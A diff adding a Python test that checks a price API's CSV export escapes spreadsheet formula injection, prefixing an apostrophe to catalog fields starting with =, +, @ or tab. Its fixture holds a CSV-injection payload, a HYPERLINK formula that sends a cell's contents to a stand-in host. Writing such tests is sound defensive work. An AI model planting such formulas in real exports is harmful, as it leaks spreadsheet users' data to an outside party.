@@ -111,6 +111,23 @@ async def test_prices_several_skus_user_and_cursor(api: Api) -> None:  # noqa: F
     assert bad["field"] == "cursor"
 
 
+async def test_prices_csv_never_starts_a_formula(api: Api) -> None:  # noqa: F811
+    """A catalog's text that a spreadsheet would run (=, +, -, @, tab) gets a leading
+    apostrophe in /prices.csv; /prices keeps it as the provider gave it; amounts untouched."""
+    clock = api.clock
+    await store_prices(api, p(clock, 9600))
+    evil = '=HYPERLINK("http://x.example/?"&A1,"Panda")'
+    await api.daemon.store.put_catalog("stockx", "DD1391-100", product_id="x", title=evil,
+                                       brand="+Nike", colourway="@White", image_url="\thttp://i")
+    lines = list(csv.reader(io.StringIO(await (await api.client.get("/prices.csv")).text())))
+    row = dict(zip(lines[0], lines[1], strict=True))
+    assert row["title"] == "'" + evil and row["brand"] == "'+Nike"
+    assert row["colourway"] == "'@White" and row["image_url"] == "'\thttp://i"
+    assert row["sku"] == "DD1391-100" and row["lowest_ask"] == "96.00"
+    [as_json] = (await api.get("/prices"))["prices"]
+    assert as_json["title"] == evil
+
+
 async def test_prices_csv_equals_prices(api: Api) -> None:  # noqa: F811
     """GET /prices.csv: text/csv, the contract's header, the same rows and values as /prices
     (empty for null); everything without a limit; with one, a Link to the next page."""
